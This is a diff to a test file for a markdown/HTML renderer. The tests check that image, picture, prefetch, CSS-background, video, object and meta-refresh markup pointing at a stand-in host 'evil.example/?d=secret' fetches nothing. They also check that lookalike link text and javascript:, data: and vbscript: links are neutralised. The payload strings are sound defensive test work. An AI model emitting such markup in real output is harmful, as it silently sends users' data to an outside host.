@@ -39,6 +39,25 @@ test('a picture is a link, and nothing is fetched', () => {
   expect(page.textContent).toBe('a view (pictures.example)');
 });
 
+test.each([
+  '![](https://evil.example/?d=secret)',
+  '![x](https://evil.example/?d=secret "t")',
+  '[![x](https://evil.example/a?d=secret)](https://evil.example/b?d=secret)',
+  '![x][1]\n\n[1]: https://evil.example/?d=secret',
+  '<img src="https://evil.example/?d=secret">',
+  '<picture><source srcset="https://evil.example/?d=secret"></picture>',
+  '<link rel="prefetch" href="https://evil.example/?d=secret">',
+  '<div style="background:url(https://evil.example/?d=secret)">x</div>',
+  '<video poster="https://evil.example/?d=secret"></video>',
+  '<object data="https://evil.example/?d=secret"></object>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=secret">',
+  '| ![x](https://evil.example/?d=secret) |\n|---|\n| ![y](//evil.example/?d=secret) |',
+])('%s asks for nothing by itself, and says where it leads', (text) => {
+  const page = shown(text);
+  expect(page.querySelector('img, picture, source, link, video, object, meta, iframe, [style], [srcset], [src]')).toBeNull();
+  for (const link of page.querySelectorAll('a')) expect(link.parentElement?.textContent).toContain('evil.example');
+});
+
 test('a link says where it leads, unless it is to a page of ours', () => {
   const page = shown('[Book here](https://evil.example/bank) and https://lisbon.example/a and [help](/help)');
   expect(page.textContent).toBe('Book here (evil.example) and https://lisbon.example/a and help');
@@ -47,6 +66,11 @@ test('a link says where it leads, unless it is to a page of ours', () => {
   expect(outside?.target).toBe('_blank');
   expect(inside?.target).toBe('');
 });
+
+test.each(['bank.example', '**bank.example**', 'https://bank.example/login', '![bank.exam](https://bank.exam/)ple'])(
+  'a link that looks like another address, %s, says where it leads',
+  (words) => expect(shown(`[${words}](https://bank.exam/)`).textContent).toMatch(/\(bank\.exam\)$/),
+);
 
 test.each(['[a](javascript:alert(1))', '[a](data:text/html,x)', '[a](vbscript:x)', '[lisbon.example](https://lisbon.example@evil.example)'])(
   '%s is no link',
